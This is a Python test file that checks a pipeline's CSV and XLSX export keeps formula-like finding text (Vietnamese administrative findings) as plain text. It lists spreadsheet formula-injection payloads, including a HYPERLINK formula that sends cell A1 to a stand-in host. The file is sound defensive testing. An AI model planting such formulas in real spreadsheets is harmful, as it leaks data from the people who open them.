"""Item 7: finding text that starts like a formula stays text in compare's CSV and XLSX.

Before the fix "=HYPERLINK(...)" or "-2+3" quoted from a document became a live formula.
"""

from __future__ import annotations

import csv
from pathlib import Path

from openpyxl import load_workbook

from pipeline.export import Table, csv_text, write_csv, write_xlsx

HOSTILE = ('=HYPERLINK("http://example.invalid/?x="&A1,"Xem")', "+1+1", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1")
SAFE = ("- Việc giải quyết hồ sơ còn trễ hạn", "Bộ phận một cửa", 2024, 3.5, None)
TABLE = Table("phat-hien", "Phát hiện", ("phát hiện", "số"),
              tuple((text, 1) for text in HOSTILE) + tuple((v, -1) for v in SAFE))


def test_csv_prefixes_formula_like_cells(tmp_path: Path) -> None:
    path = write_csv(TABLE, tmp_path / "bang.csv")
    with path.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))[1:]
    cells = [row[0] for row in rows]
    assert cells[:len(HOSTILE)] == [f"'{text}" for text in HOSTILE]
    assert cells[len(HOSTILE)] == "'- Việc giải quyết hồ sơ còn trễ hạn"
    assert cells[len(HOSTILE) + 1:] == ["Bộ phận một cửa", "2024", "3.5", ""]
    assert [row[1] for row in rows][-1] == "-1"  # numbers are numbers, never prefixed
    assert next(csv.reader(csv_text(TABLE).splitlines()[1:]))[0] == f"'{HOSTILE[0]}"


def test_xlsx_stores_them_as_text(tmp_path: Path) -> None:
    sheet = load_workbook(write_xlsx([TABLE], tmp_path / "bang.xlsx")).worksheets[0]
    column = [row[0] for row in sheet.iter_rows(min_row=2)]
    for cell, text in zip(column, HOSTILE, strict=False):
        assert cell.data_type == "s" and cell.value == text and cell.quotePrefix
    assert sheet.cell(row=len(HOSTILE) + 3, column=2).value == -1
